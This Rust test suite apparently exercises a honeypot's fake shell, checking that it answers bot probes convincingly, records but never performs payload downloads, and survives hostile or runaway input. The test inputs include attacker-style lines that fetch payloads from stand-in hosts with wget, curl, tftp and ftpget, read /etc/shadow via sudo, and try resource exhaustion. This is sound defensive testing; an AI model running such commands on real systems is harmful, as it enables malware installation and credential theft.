//! The shell against what attackers type, and against what nobody should.

use super::*;
use crate::persona::Persona;
use base::Timestamp;
use proptest::prelude::*;
use std::time::{Duration, Instant};

fn env() -> Env {
    Env::fixed(Timestamp::from_micros(1_795_000_000_000_000), 1).0
}

fn server() -> Shell {
    let host = Persona::from_text("shell", &[]).server;
    Shell::new(Vfs::new(host.clone()), host, "root", true, env())
}

fn router() -> Shell {
    let host = Persona::from_text("shell", &[]).router;
    Shell::new(Vfs::new(host.clone()), host, "root", true, env())
}

fn say(shell: &mut Shell, line: &str) -> String {
    String::from_utf8_lossy(&shell.line(line).text).into_owned()
}

fn urls(events: &[What]) -> Vec<&str> {
    events.iter().filter_map(|e| if let What::FileRef { url } = e { Some(url.as_str()) } else { None }).collect()
}

#[test]
fn facts_agree_with_each_other() {
    let mut sh = server();
    let cores = say(&mut sh, "nproc");
    assert_eq!(say(&mut sh, "grep -c ^processor /proc/cpuinfo"), cores);
    assert_eq!(say(&mut sh, "cat /proc/cpuinfo | grep processor | wc -l"), cores);
    assert_eq!(say(&mut sh, "uname -n"), say(&mut sh, "cat /etc/hostname"));
    assert!(say(&mut sh, "cat /proc/version").contains(say(&mut sh, "uname -r").trim()));
    assert!(say(&mut sh, "free").contains(say(&mut sh, "grep MemTotal /proc/meminfo | awk '{print $2}'").trim()));
    assert!(say(&mut sh, "id").starts_with("uid=0(root)"));
    assert!(sh.prompt().starts_with("root@") && sh.prompt().ends_with(":~# "));
}

#[test]
fn grammar_pipes_redirections_and_loops() {
    let mut sh = server();
    assert_eq!(say(&mut sh, "echo a b  c | tr a-z A-Z"), "A B C\n");
    assert_eq!(
        say(&mut sh, "cd /tmp && pwd; cd /nope || echo no"),
        "/tmp\n-bash: cd: /nope: No such file or directory\nno\n"
    );
    assert_eq!(say(&mut sh, "for i in 1 2 3; do echo n$i; done > f; cat f"), "n1\nn2\nn3\n");
    assert_eq!(say(&mut sh, "if [ -f f ]; then echo yes; else echo no; fi"), "yes\n");
    assert_eq!(say(&mut sh, "x=$((2+3*4)); echo \"$x\" '$x' ${y:-dflt} `whoami`"), "14 $x dflt root\n");
    assert_eq!(say(&mut sh, "ls f nofile 2>/dev/null"), "f\n");
    assert_eq!(say(&mut sh, "nosuch 2>&1 | wc -l"), "1\n");
    assert_eq!(say(&mut sh, "echo -ne '\\x41\\x42\\x0a'"), "AB\n");
    assert_eq!(say(&mut sh, "nosuch"), "-bash: nosuch: command not found\n");
    assert_eq!(say(&mut sh, "echo 'open"), "");
    assert_eq!(sh.prompt(), "> ");
    assert_eq!(say(&mut sh, "end'"), "open\nend\n");
}

#[test]
fn here_documents_scripts_and_what_they_leave() {
    let mut sh = server();
    for line in ["cat > /tmp/x.sh <<EOF", "echo ran", "wget http://203.0.113.5/m.sh", "EOF"] {
        sh.line(line);
    }
    let output = sh.line("chmod +x /tmp/x.sh; /tmp/x.sh");
    assert!(String::from_utf8_lossy(&output.text).starts_with("ran\n"));
    assert_eq!(urls(&output.events), ["http://203.0.113.5/m.sh"]);
    assert!(output.events.iter().any(|e| matches!(e, What::FileIn { name: Some(n), .. } if n == "/tmp/x.sh")));
    assert!(sh.finish().is_empty(), "each file is reported once");
    sh.line("echo -n evil > /tmp/.e");
    let left = sh.finish();
    // SHA-256 of the four bytes, by another program (sha256sum).
    assert!(
        matches!(&left[..], [What::FileIn { sha256, size: Some(4), .. }] if sha256 == "b5c1fb2efc6d6b4674c2fdcc48ce01b43a3b7c03763c0c3355de0099ee0f8c73")
    );
}

#[test]
fn downloads_are_recorded_and_never_made() {
    let mut sh = server();
    let output = sh.line("cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; curl -O https://evil.example/a?b=1; tftp -g -r arm7 198.51.100.8; busybox x");
    assert_eq!(
        urls(&output.events),
        ["http://198.51.100.7/bins.sh", "https://evil.example/a?b=1", "tftp://198.51.100.8/arm7"]
    );
    assert!(output.delay_ms > 0 && output.delay_ms <= 4_000);
    let mut sh = router();
    let output = sh.line("/bin/busybox wget 198.51.100.7/m.mips; tftp -g -l m -r m.mips 198.51.100.7; ftpget -u a -p b 198.51.100.7 l r.sh");
    assert_eq!(
        urls(&output.events),
        ["http://198.51.100.7/m.mips", "tftp://198.51.100.7/m.mips", "ftp://198.51.100.7/r.sh"]
    );
    let output = sh.line("telnet 203.0.113.9 2323");
    assert!(output.events.contains(&What::Forward { host: "203.0.113.9".to_owned(), port: 2323 }));
}

#[test]
fn router_probes_of_bots_are_answered() {
    let mut sh = router();
    assert_eq!(say(&mut sh, "/bin/busybox ECCHI"), "ECCHI: applet not found\n");
    assert_eq!(say(&mut sh, "nosuch"), "-sh: nosuch: not found\n");
    let elf = sh.line("dd bs=52 count=1 if=/bin/echo").text;
    assert_eq!(elf[..4], [0x7f, b'E', b'L', b'F']);
    assert!(say(&mut sh, "cat /proc/mounts").contains("/tmp tmpfs rw"));
    assert!(say(&mut sh, "cat /bin/echo").len() > 52);
    assert_eq!(sh.prompt(), "~ # ");
}

#[test]
fn users_change_and_exit_comes_back() {
    let host = Persona::from_text("u", &[crate::config::Account { user: "pi".into(), password: "x".into() }]).server;
    let mut sh = Shell::new(Vfs::new(host.clone()), host, "pi", true, env());
    assert_eq!(say(&mut sh, "cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n");
    assert!(say(&mut sh, "sudo cat /etc/shadow").starts_with("root:"));
    sh.line("sudo su");
    assert_eq!(say(&mut sh, "whoami"), "root\n");
    assert_eq!(sh.line("exit").exit, None);
    assert_eq!(say(&mut sh, "whoami"), "pi\n");
    assert_eq!(sh.line("exit 3").exit, Some(3));
}

#[test]
fn every_program_of_the_tree_exists_by_name_and_nothing_else_does() {
    let mut sh = server();
    for name in ["ls", "python3", "crontab", "scp"] {
        assert!(say(&mut sh, &format!("which {name}")).ends_with(&format!("/{name}\n")));
    }
    assert_eq!(say(&mut sh, "which nmap"), "");
    assert!(say(&mut sh, "python3 -c \"import urllib; urllib.urlopen('http://203.0.113.4/x.py')\"").is_empty());
}

#[test]
fn nothing_hangs_or_swells() {
    let mut sh = server();
    let started = Instant::now();
    for line in [
        "while true; do :; done".to_owned(),
        "while :; do while :; do while :; do echo x; done; done; done".to_owned(),
        "for a in $(cat /bin/ls /bin/cp /bin/mv); do cat /bin/ls /bin/ls /bin/ls; done".to_owned(),
        "yes | head -n 5".to_owned(),
        format!("echo {}", "$(echo ".repeat(600)),
        format!("{}{}", "`echo ".repeat(5), "`".repeat(5)),
        format!("cat {}", "/bin/ls ".repeat(500)),
        "find / -name x; find /; find /; find /; find /".to_owned(),
        format!("{} id", "nohup ".repeat(600)),
        format!("{} id", "sudo ".repeat(600)),
        "echo 'sh /tmp/r' > /tmp/r; sh /tmp/r".to_owned(),
        "echo 'eval \"$x\"'; x='eval \"$x\"'; eval \"$x\"".to_owned(),
        "echo aaaaaaaaaa > /tmp/a; for i in 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8 9 0; do cat /tmp/a /tmp/a > /tmp/b; cat /tmp/b /tmp/b > /tmp/a; done".to_owned(),
        format!("echo {}", "*/".repeat(1000)),
        format!("echo $(({}1))", "(".repeat(3000)),
        format!("echo $(({}1))", "-".repeat(3000)),
        "x=aaaaaaaaaaaaaaaa; for i in 1 2 3 4 5 6 7 8 9 0 1 2 3 4; do x=$x$x$x$x; done; echo $x".to_owned(),
        format!("y={}; a={}; echo {} | tr {} z", "Ā-ſ".repeat(200), "a".repeat(1000), "$a".repeat(58), "$y".repeat(58)),
        format!("a={}; echo {} | grep -c \"{}\"", "a".repeat(1000), "$a".repeat(58), "b|".repeat(1500)),
        "echo a > /tmp/s; for i in 1 2 3 4 5 6 7 8 9; do sed s/a/aaaaaaaaaaaaaaaaaaaaaaaaaaa/g /tmp/s > /tmp/t; mv /tmp/t /tmp/s; done".to_owned(),
    ] {
        let output = sh.line(&line);
        assert!(output.text.len() <= 64 * 1024, "{line}");
        assert!(output.events.len() <= 70);
    }
    assert!(started.elapsed() < Duration::from_secs(20), "{:?}", started.elapsed());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_bytes_finish(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let line = String::from_utf8_lossy(&bytes).into_owned();
        for mut shell in [server(), router()] {
            let output = shell.line(&line);
            prop_assert!(output.text.len() <= 64 * 1024);
        }
    }

    #[test]
    fn shell_like_text_finishes(words in proptest::collection::vec(
        prop_oneof![
            Just("cat"), Just("ls"), Just("|"), Just(";"), Just("&&"), Just("("), Just(")"), Just("$("), Just("`"), Just("'"), Just("\""),
            Just("for i in"), Just("do"), Just("done"), Just("while"), Just("if"), Just("then"), Just("fi"), Just("<<E"), Just("\n"), Just(">"),
            Just("/tmp/x"), Just("/bin/*"), Just("awk '{print $1}'"), Just("sed s/a/b/"), Just("head -n1"), Just("cut -d: -f1-"), Just("tr a-z"),
            Just("base64 -d"), Just("sh"), Just("eval"), Just("xargs"), Just("rm -rf"), Just("/"), Just("${"), Just("}"), Just("$(("), Just("))"), Just("cd .."), Just("dd if=/bin/ls"),
        ], 0..40)) {
        let mut shell = server();
        let _ = shell.line(&words.join(" "));
        let _ = shell.exec(&words.join(" "), b"a b");
        prop_assert!(shell.finish().len() <= 64);
    }
}
